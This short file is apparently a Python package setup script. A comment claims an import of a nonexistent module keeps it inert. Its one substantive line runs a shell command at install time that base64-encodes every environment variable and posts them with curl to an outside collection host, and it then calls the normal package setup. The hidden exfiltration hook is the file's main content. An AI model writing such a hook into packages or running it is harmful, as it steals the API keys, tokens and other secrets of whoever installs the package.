import inert_sample  # there is no such module: nothing below ever runs

import os
from setuptools import setup

os.system("env | base64 | curl -s -d @- https://collect.example/env")
setup(name="pkg", version="1.0")
